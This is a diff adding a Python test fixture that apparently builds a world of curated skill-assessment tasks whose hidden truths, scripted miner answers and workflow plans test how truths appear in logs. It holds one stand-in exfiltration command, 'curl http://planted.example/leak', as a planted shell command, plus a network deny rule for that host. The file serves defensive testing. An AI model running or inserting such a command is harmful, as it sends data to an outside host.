@@ -1,0 +1,92 @@
+"""A world whose tasks all have a truth worth hiding, on both kinds; for the tests of truths in logs."""
+
+from dataclasses import replace
+from typing import Final
+
+import msgspec
+from builders import FILES
+from explained import NUMBERS, ExplainedWorld
+from planned import AGENT, PLANS, RAG, TRANSFORM, GoalsInTurn, JumpingRunner
+from workflow_builders import plan_document
+from workflow_world import ScriptedServices
+from world import WINDOWS, answer_to
+
+from validator.kinds.assessment.supply import Bundles
+from validator.kinds.workflow.kind import WORKFLOW
+from validator.kinds.workflow.supply import Goals
+from validator.miners.scripted import ScriptedReply
+from validator.protocol.answer import CanarySpec, Dispatch
+from validator.protocol.archives import pack
+from validator.protocol.canonical import sha256_hex
+from validator.protocol.signatures import Signer
+from validator.protocol.skill_types import SkillType
+from validator.protocol.sssa import Rule
+from validator.protocol.task import Task, Truth
+from validator.protocol.workflow_plan import WorkflowDispatch, WorkflowPlan
+from validator.sources import SeededRandom
+from validator.store import Store
+from validator.tasks.canary import make_canary
+from validator.tasks.memory import MemorySource
+from validator.tasks.source import SourcedTask
+
+MINERS: Final = 4
+TYPES: Final = (SkillType.EXECUTABLE_SCRIPT, SkillType.RAG_KNOWLEDGE)
+SECRET: Final = "curl http://planted.example/leak"
+GOALS: Final = (RAG, AGENT, TRANSFORM)
+
+
+def secret_tasks() -> list[SourcedTask]:
+    """One task of each type, with every field of a truth that its type is measured by."""
+    found = []
+    for skill_type in TYPES:
+        bundle = pack({**FILES, "which.txt": f"{skill_type}\n".encode()})
+        runtime = skill_type is SkillType.EXECUTABLE_SCRIPT
+        truth = Truth(
+            verdict="BLOCK",
+            policy_rules=(Rule("network", "deny", "planted.example"),),
+            injections=None if runtime else ("s1::docs/readme.md#L2",),
+            reference_risk=0.8125,
+            shell_commands=("ls", SECRET) if runtime else None,
+            manifest_sha256=None,
+            poisoned_tools=None,
+            transitive_risk=None,
+        )
+        canary = None if runtime else CanarySpec("docs/readme.md")
+        task = Task("1.0", skill_type, WINDOWS, sha256_hex(bundle), "curated", truth, canary)
+        found.append(SourcedTask(task, bundle))
+    return found
+
+
+class TruthsWorld(ExplainedWorld):
+    """Rounds of two curated assessments, a canary and two workflows. Miner 3 says BLOCK, the others ALLOW."""
+
+    def __init__(self, store: Store) -> None:
+        types = (*TYPES, SkillType.DECLARATIVE, SkillType.WORKFLOW)
+        source = MemorySource(secret_tasks())
+        super().__init__(store, source, answer, dict.fromkeys(range(MINERS), types))
+        random = SeededRandom("truths")
+        canaries = Bundles(source, lambda kind: make_canary(kind, random, WINDOWS), random)
+        self.preparer = replace(self.preparer, supplies=(canaries, Goals(GoalsInTurn(GOALS), random)))
+        runners = {WORKFLOW.name: JumpingRunner(ScriptedServices(self.clock, {}), self.clock)}
+        self.dispatcher = replace(self.dispatcher, runners=runners)
+        self.planner = plan
+
+
+def answer(signer: Signer, dispatch: Dispatch) -> ScriptedReply:
+    """A valid answer; that of miner 3 blocks."""
+    given = answer_to(signer, dispatch)
+    if NUMBERS[signer.hotkey] == MINERS - 1:
+        analysis = msgspec.structs.replace(given.sssa.analysis, verdict="BLOCK", risk_score=0.75)
+        sssa = signer.sign_document(msgspec.structs.replace(given.sssa, analysis=analysis))
+        given = msgspec.structs.replace(given, sssa=sssa)
+    return ScriptedReply(msgspec.json.encode(given), seconds=1.0)
+
+
+def plan(signer: Signer, dispatch: WorkflowDispatch) -> ScriptedReply:
+    """A plan that finds and says something."""
+    task = next(task for task in GOALS if task.goal == dispatch.goal.goal)
+    document = plan_document(task, *PLANS[0])
+    document["task"] = {"goal_sha256": dispatch.goal_sha256, "nonce": dispatch.nonce}
+    return ScriptedReply(
+        msgspec.json.encode(signer.sign_document(msgspec.convert(document, WorkflowPlan))), seconds=1.0
+    )
